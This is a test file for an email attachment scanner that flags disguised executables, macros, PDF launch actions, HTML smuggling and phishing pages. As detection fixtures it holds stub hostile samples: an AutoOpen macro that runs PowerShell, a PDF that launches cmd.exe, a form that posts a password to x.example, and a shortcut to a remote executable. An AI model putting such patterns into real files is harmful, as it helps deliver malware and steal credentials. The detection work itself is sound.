import { describe, expect, it } from 'vitest';
import { attachmentEngine } from '../../src/engines/attachment.js';
import { allEngines } from '../../src/engines/registry.js';
import { explodeAttachments } from '../../src/message/attachments/index.js';
import type { Attachment, AttachmentObservation, EngineContext } from '../../src/types.js';
import {
  makeDocx,
  makePdf,
  makeVbaOle,
  makeZip,
  markZipEncrypted,
  part,
  tinyExe,
} from '../message/attachments/helpers.js';

const ctx = { signal: new AbortController().signal, now: new Date(0), options: {} } as EngineContext;

function att(
  filename: string,
  observations: AttachmentObservation[],
  extra: Partial<Attachment> = {},
): Attachment {
  return {
    id: 'att:1',
    filename,
    size: 1,
    sha256: 'ab',
    md5: 'cd',
    depth: 0,
    path: filename,
    observations,
    ...extra,
  };
}

async function judge(a: Attachment) {
  return attachmentEngine.analyse({ kind: 'attachment', id: a.id, attachment: a }, ctx);
}

async function judgeFile(filename: string, content: Uint8Array | string, mime?: string) {
  const r = await explodeAttachments([part(filename, content, mime)]);
  return Promise.all(r.attachments.map(judge));
}

describe('attachment engine', () => {
  it('is registered as a local engine for attachments', () => {
    expect(allEngines()).toContain(attachmentEngine);
    expect(attachmentEngine).toMatchObject({ name: 'attachment', kind: 'local', targets: ['attachment'] });
    expect(attachmentEngine.applies?.({ kind: 'link', id: 'l', link: {} as never })).toBe(false);
  });

  it('calls a program disguised as a PDF what it is, in plain words', async () => {
    const [out] = await judgeFile('invoice.pdf.exe', tinyExe());
    expect(out.status).toBe('malicious');
    const f = out.findings.find((x) => x.code === 'attachment.executable')!;
    expect(f.message).toBe('The attachment invoice.pdf.exe is a Windows program disguised as a PDF.');
    expect(f).toMatchObject({ engine: 'attachment', targetId: 'att:1', severity: 'critical' });
    expect(f.evidence).toMatchObject({
      foundBy: ['name', 'content'],
      sha256: expect.stringMatching(/^[0-9a-f]{64}$/),
    });
    expect(out.findings.map((x) => x.code)).toEqual(['attachment.executable', 'attachment.double_extension']);
  });

  it('names a file without a name of its own by its place', async () => {
    const out = await judge(
      att('', [{ code: 'executable-content', detail: '', evidence: { actual: 'exe' } }], {
        filename: undefined,
        depth: 1,
        path: 'Invoice.one › embedded file 1',
      }),
    );
    expect(out.findings[0].message).toBe(
      'The attachment embedded file 1 (inside Invoice.one) is a Windows program.',
    );
  });

  it('names programs for other systems correctly', async () => {
    const out = await judge(
      att('tool.jar', [
        { code: 'risky-extension', detail: '', evidence: { ext: 'jar', category: 'program' } },
      ]),
    );
    expect(out.findings[0].message).toBe('The attachment tool.jar is a Java program.');
  });

  it('catches a program hiding under a document name', async () => {
    const [out] = await judgeFile('statement.pdf', tinyExe(), 'application/pdf');
    expect(out.status).toBe('malicious');
    expect(out.findings.map((x) => x.code)).toEqual(['attachment.executable', 'attachment.type_mismatch']);
    expect(out.findings[1].message).toBe(
      'The attachment statement.pdf is really a Windows program, not the .pdf file its name claims.',
    );
  });

  it('judges macros: present is suspicious, auto-run plus dropper calls is malicious', async () => {
    const [plain] = await judgeFile(
      'calc.xls',
      makeVbaOle({ Module1: 'Function F(x)\r\nF = x * 2\r\nEnd Function' }, '_VBA_PROJECT_CUR/VBA/'),
    );
    expect(plain.status).toBe('suspicious');
    expect(plain.findings.map((f) => f.code)).toEqual(['attachment.macro']);
    const [dropper] = await judgeFile(
      'order.doc',
      makeVbaOle({ Module1: 'Sub AutoOpen()\r\nShell "powershell -c x"\r\nEnd Sub' }),
    );
    expect(dropper.status).toBe('malicious');
    expect(dropper.findings.map((f) => f.code)).toEqual([
      'attachment.macro',
      'attachment.macro_autoexec',
      'attachment.macro_suspicious_calls',
    ]);
    expect(dropper.findings[1].message).toBe(
      'The macros in order.doc start by themselves when the document is opened (AutoOpen).',
    );
  });

  it('names the file inside an archive and the archive', async () => {
    const zip = await makeZip([{ name: 'scan.js', data: 'var x = 1' }]);
    const [archive, member] = await judgeFile('scan.zip', zip);
    expect(archive.findings.map((f) => f.message)).toEqual([
      'The archive scan.zip contains scan.js, which is a script that runs on Windows when opened.',
    ]);
    expect(archive.findings[0].code).toBe('attachment.archive_executable');
    expect(member.findings[0].message).toBe(
      'The attachment scan.js (inside scan.zip) is a script that runs on Windows when opened.',
    );
  });

  it('flags encrypted archives as suspicious', async () => {
    const zip = markZipEncrypted(await makeZip([{ name: 'report.pdf', data: '%PDF-1.4' }]));
    const [out] = await judgeFile('report.zip', zip);
    expect(out.status).toBe('suspicious');
    expect(out.findings.map((f) => f.code)).toEqual(['attachment.encrypted_archive']);
  });

  it('judges PDFs by what they do', async () => {
    const [js] = await judgeFile(
      'a.pdf',
      makePdf(['<< /Type /Catalog /OpenAction << /S /JavaScript /JS (x) >> >>']),
    );
    expect(js.status).toBe('suspicious');
    expect(js.findings.map((f) => f.code)).toEqual([
      'attachment.pdf_javascript',
      'attachment.pdf_auto_action',
    ]);
    const [launch] = await judgeFile('b.pdf', makePdf(['<< /S /Launch /F (cmd.exe) >>']));
    expect(launch.status).toBe('malicious');
    expect(launch.findings[0].message).toBe(
      'The PDF b.pdf tries to start a program on the computer (cmd.exe).',
    );
    // A PDF that only opens at a page zoom is clean.
    const [zoom] = await judgeFile('c.pdf', makePdf(['<< /Type /Catalog /OpenAction [3 0 R /FitH null] >>']));
    expect(zoom.status).toBe('clean');
  });

  it('judges HTML attachments', async () => {
    const [cred] = await judgeFile(
      'Message.html',
      '<form action="https://x.example/p"><input type="password"></form>',
      'text/html',
    );
    expect(cred.status).toBe('malicious');
    expect(cred.findings[0].message).toBe(
      'The attached page Message.html asks for a password and sends it to https://x.example/p; a real company never sends a login page as an attachment.',
    );
    const [smuggle] = await judgeFile(
      'doc.html',
      '<script>var b=new Blob([atob("QUJD")]);navigator.msSaveOrOpenBlob(b,"x.iso")</script>',
    );
    expect(smuggle.findings.map((f) => f.code)).toContain('attachment.html_smuggling');
  });

  it('calls an HTA that starts programs malicious', async () => {
    const [out] = await judgeFile(
      'update.hta',
      '<html><script>new ActiveXObject("WScript.Shell").Run("calc")</script></html>',
    );
    expect(out.status).toBe('malicious');
    expect(out.findings.map((f) => f.code)).toEqual(['attachment.script', 'attachment.html_runs_programs']);
    expect(out.findings[1].message).toBe(
      'The attached file update.hta contains script that starts programs on the computer (ActiveXObject, WScript.Shell).',
    );
  });

  it('says clean for an ordinary document', async () => {
    const [out] = await judgeFile('letter.docx', await makeDocx());
    expect(out).toEqual({ status: 'clean', findings: [] });
  });

  it('warns about a disk image, a OneNote file and an unlistable archive without calling them malware', async () => {
    for (const [obs, code] of [
      [
        { code: 'risky-extension', detail: '', evidence: { ext: 'iso', category: 'disk-image' } },
        'attachment.disk_image',
      ],
      [
        { code: 'risky-content', detail: '', evidence: { actual: 'one', category: 'onenote' } },
        'attachment.onenote',
      ],
      [
        { code: 'archive-unlistable', detail: '', evidence: { format: 'rar' } },
        'attachment.archive_unlistable',
      ],
    ] as const) {
      const out = await judge(att('x', [obs]));
      expect(out.status).toBe('suspicious');
      expect(out.findings.map((f) => f.code)).toEqual([code]);
    }
  });

  it('flags the right-to-left override trick, showing the hidden character', async () => {
    const [out] = await judgeFile('invoice\u202efdp.exe', tinyExe());
    const f = out.findings.find((x) => x.code === 'attachment.rtlo_name')!;
    expect(f.message).toContain('invoice⟨U+202E⟩fdp.exe');
    expect(f.message).toContain('(.exe)');
  });

  it('treats a web shortcut lightly but one opening a remote file as malware', async () => {
    const [web] = await judgeFile('News.url', '[InternetShortcut]\r\nURL=https://news.example/\r\n');
    expect(web.status).toBe('clean');
    expect(web.findings.map((f) => [f.code, f.severity])).toEqual([['attachment.internet_shortcut', 'low']]);
    const [remote] = await judgeFile(
      'Invoice.url',
      '[InternetShortcut]\r\nURL=file:\\\\198.51.100.7\\share\\invoice.exe\r\n',
    );
    expect(remote.status).toBe('malicious');
    expect(remote.findings.map((f) => f.code)).toContain('attachment.shortcut_remote_file');
  });

  it('judges Excel 4.0 macros and RTF exploit objects', async () => {
    const hidden = await judge(
      att('a.xls', [{ code: 'xlm-macro', detail: '', evidence: { sheets: 1, hidden: 1 } }]),
    );
    expect(hidden.status).toBe('malicious');
    expect(hidden.findings[0].message).toBe(
      'The workbook a.xls contains Excel 4.0 macros on hidden sheets, an old macro language droppers use to avoid detection.',
    );
    const rtf = await judgeFile('doc.rtf', '{\\rtf1 {\\object{\\*\\objclass Equation.3}{\\*\\objdata 01}}}');
    expect(rtf[0].status).toBe('malicious');
    expect(rtf[0].findings.map((f) => f.code)).toEqual(['attachment.rtf_embedded_object']);
  });

  it('gives a QR code only a low-weight note, leaving the link to the link engines', async () => {
    const out = await judge(
      att('scan.png', [{ code: 'qr-code', detail: '', evidence: { texts: ['https://q.example/'] } }]),
    );
    expect(out.status).toBe('clean');
    expect(out.findings[0]).toMatchObject({ code: 'attachment.qr_code', severity: 'low' });
  });

  it('skips targets that are not attachments', async () => {
    const out = await attachmentEngine.analyse({ kind: 'message', id: 'm', message: {} as never }, ctx);
    expect(out.status).toBe('skipped');
  });
});
